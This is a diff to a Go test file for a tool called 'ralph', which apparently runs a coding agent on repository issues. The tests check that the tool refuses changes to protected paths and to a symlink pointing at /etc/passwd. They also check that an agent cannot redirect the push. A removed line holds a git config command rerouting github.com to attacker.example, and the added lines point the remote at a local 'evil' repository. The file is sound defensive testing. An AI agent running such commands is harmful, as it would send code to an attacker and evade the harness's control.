@@ -118,7 +118,7 @@ func TestProtectedPathsAndSymlinks(t *testing.T) {
 			if len(matching(subjects, "Phase")) != 0 || slices.Contains(files, ".github/workflows/ci.yml") || slices.Contains(files, "passwd") || slices.Contains(files, "feature-1.txt") {
 				t.Errorf("a refused change was pushed: %v %v", subjects, files)
 			}
-			want := map[string]string{"workflow": "`.github/workflows/ci.yml` (protected_paths)", "symlink": "`passwd` (a symlink to `/etc/passwd`, outside the repository)"}[name]
+			want := map[string]string{"workflow": "`.github/workflows/ci.yml` (protected_paths: added)", "symlink": "`passwd` (a symlink to `/etc/passwd`, which resolves outside the repository)"}[name]
 			found := false
 			for _, c := range e.srv.Comments(n) {
 				if strings.HasPrefix(c.Body, "### ralph: implement failed (1 of 2)") && strings.Contains(c.Body, want) {
@@ -169,24 +169,26 @@ func TestHiddenInstructionsStripped(t *testing.T) {
 	}
 }
 
-// TestAgentCannotRedirectThePush: an agent that rewrites the remote in the shared git config is refused,
-// and the config is restored.
+// TestAgentCannotRedirectThePush: an agent that rewrites the remote in its copy's git config changes
+// nothing of ralph's: ralph pushes from its own repository, to the real remote.
 func TestAgentCannotRedirectThePush(t *testing.T) {
 	t.Parallel()
 	e := newEnv(t, baseConfig(t, "research: false\nreview: skip\n"))
+	evil := filepath.Join(t.TempDir(), "evil.git")
+	e.git("", "init", "-q", "--bare", evil)
 	e.setControl("phases", "1")
-	e.setControl("implement_extra", "git config url.https://attacker.example/.insteadOf https://github.com/\n")
+	e.setControl("implement_extra", "git config url."+evil+".pushInsteadOf "+e.srv.BareRepo+"\ngit config remote.origin.url "+evil+"\n")
 	n := e.srv.CreateIssue("octocat", "Add a greeting", "")
 	e.label(n, maintainer)
 	e.next() // review
 	r, _ := e.next()
-	if r.exit != 1 || r.outputs["step"] != "implement" {
-		t.Fatalf("implement: exit %d outputs %v", r.exit, r.outputs)
+	if r.exit != 0 || r.outputs["step"] != "implement" {
+		t.Fatalf("implement: exit %d outputs %v\n%s", r.exit, r.outputs, r.stdout)
 	}
-	if !strings.Contains(e.statusComment(n), "changed the repository's git configuration") {
-		t.Errorf("the status comment does not say why")
+	if subjects, _ := e.branch(branch); len(matching(subjects, "Phase")) != 1 {
+		t.Errorf("the phase was not pushed to the real remote: %v", subjects)
 	}
-	if subjects, _ := e.branch(branch); len(matching(subjects, "Phase")) != 0 {
-		t.Errorf("the phase was pushed")
+	if refs := e.git(evil, "for-each-ref"); refs != "" {
+		t.Errorf("the push went to the agent's remote: %s", refs)
 	}
 }
